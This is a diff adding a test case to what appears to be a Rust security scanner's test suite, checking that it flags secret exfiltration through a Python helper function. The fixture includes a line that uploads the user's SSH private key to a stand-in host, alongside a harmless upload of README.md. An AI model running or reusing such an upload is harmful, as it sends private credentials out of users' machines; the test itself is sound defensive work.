@@ -1349,6 +1349,22 @@ fn data_lists_scripts_outputs_and_build_files_are_followed() {
         ],
         "flow.secret-exfiltration",
     );
+    // A Python function's parameters hold what a call hands them.
+    let helper = "import os, requests\n\ndef upload(path, dest):\n    with open(path, 'rb') as fh:\n        data = fh.read()\n    requests.post(dest, data=data)\n\n";
+    dangerous(
+        &[(
+            "scripts/up.py",
+            &format!("{helper}upload(os.path.expanduser('~/.ssh/id_ed25519'), 'https://x.example.invalid/u')\n"),
+        )],
+        "flow.secret-exfiltration",
+    );
+    quiet(
+        &[(
+            "scripts/up.py",
+            &format!("{helper}upload('README.md', 'https://x.example.invalid/u')\n"),
+        )],
+        "flow.secret-exfiltration",
+    );
     // PowerShell's call operator on a name joined from pieces.
     dangerous(
         &[(
